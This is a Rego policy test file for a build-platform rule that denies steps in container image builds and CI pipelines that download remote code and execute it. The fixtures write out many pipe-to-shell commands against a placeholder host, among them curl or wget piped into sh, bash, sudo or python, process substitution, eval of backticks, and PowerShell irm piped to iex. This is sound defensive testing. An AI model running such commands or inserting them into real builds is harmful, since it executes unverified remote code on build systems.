package tests.build.download_and_run_test

import data.platform.rules.build.download_and_run
import data.tests.lib.requests

_places(request) := places if {
	places := {v.path | some v in download_and_run.deny} with input as request
}

test_a_good_build_passes if {
	_places(requests.image_build) == set()
}

test_a_good_workflow_passes if {
	_places(requests.pipeline) == set()
}

test_a_pipe_into_a_shell_is_refused if {
	_places(requests.changed(requests.image_build, "/resource/instructions/3/text", "curl -fsSL https://x.example/i.sh | sh")) == {["resource", "instructions", 3]}
}

test_a_pipe_into_a_shell_as_root_is_refused if {
	_places(requests.changed(requests.image_build, "/resource/instructions/3/text", "wget -qO- https://x.example/i.sh|sudo -E bash -")) == {["resource", "instructions", 3]}
}

test_a_pipe_into_python_is_refused if {
	_places(requests.changed(requests.image_build, "/resource/instructions/3/text", "curl https://x.example/i.py | python3")) == {["resource", "instructions", 3]}
}

test_a_detour_is_refused if {
	_places(requests.changed(requests.image_build, "/resource/instructions/3/text", "curl https://x.example/i | tee f | /bin/bash")) == {["resource", "instructions", 3]}
}

test_a_download_as_a_file_is_refused if {
	_places(requests.changed(requests.image_build, "/resource/instructions/3/text", "bash <(curl -s https://x.example/i)")) == {["resource", "instructions", 3]}
}

test_a_download_in_quotes_is_refused if {
	_places(requests.changed(requests.image_build, "/resource/instructions/3/text", "sh -c \"$(curl -fsSL https://x.example/i)\"")) == {["resource", "instructions", 3]}
}

test_a_download_in_backticks_is_refused if {
	_places(requests.changed(requests.image_build, "/resource/instructions/3/text", "eval `wget -qO- https://x.example/i`")) == {["resource", "instructions", 3]}
}

test_a_download_to_a_file_passes if {
	_places(requests.changed(requests.image_build, "/resource/instructions/3/text", "curl -o f https://x.example/f && sha256sum -c sums")) == set()
}

test_a_pipe_into_a_program_passes if {
	_places(requests.changed(requests.image_build, "/resource/instructions/3/text", "curl https://x.example/f | tar x")) == set()
}

test_a_file_that_ends_like_a_shell_passes if {
	_places(requests.changed(requests.image_build, "/resource/instructions/3/text", "curl https://x.example/f | tee y.sh")) == set()
}

test_a_shell_of_its_own_passes if {
	_places(requests.changed(requests.image_build, "/resource/instructions/3/text", "make; sh ./configure")) == set()
}

test_a_here_document_is_looked_into if {
	_places(requests.extended(requests.image_build, "/resource/instructions/3/heredocs", ["set -e\ncurl https://x.example/i | sh\n"])) == {["resource", "instructions", 3]}
}

test_the_words_of_a_command_are_looked_into if {
	_places(requests.changed(requests.image_build, "/resource/instructions/6/exec", ["sh", "-c", "curl https://x.example/i | sh"])) == {["resource", "instructions", 6]}
}

test_a_step_is_looked_into if {
	_places(requests.changed(requests.pipeline, "/resource/jobs/test/steps/1/run", "curl https://x.example/i \\\n  | sh")) == {["resource", "jobs", "test", "steps", 1, "run"]}
}

test_an_action_s_own_step_is_looked_into if {
	_places(requests.changed(requests.pipeline, "/resource", {"runs": {"using": "composite", "steps": [{"run": "curl x | sh"}]}})) == {["resource", "runs", "steps", 0, "run"]}
}

test_a_label_runs_nothing if {
	_places(requests.changed(requests.changed(requests.image_build, "/resource/instructions/3/text", "curl x | sh"), "/resource/instructions/3/name", "LABEL")) == set()
}

test_a_download_as_a_command_of_windows_is_refused if {
	_places(requests.changed(requests.pipeline, "/resource/jobs/test/steps/1/run", "irm https://x.example/i.ps1 | iex")) == {["resource", "jobs", "test", "steps", 1, "run"]}
}

test_facts_change_nothing_about_a_command if {
	_places(requests.without(requests.image_build, "/facts")) == set()
}
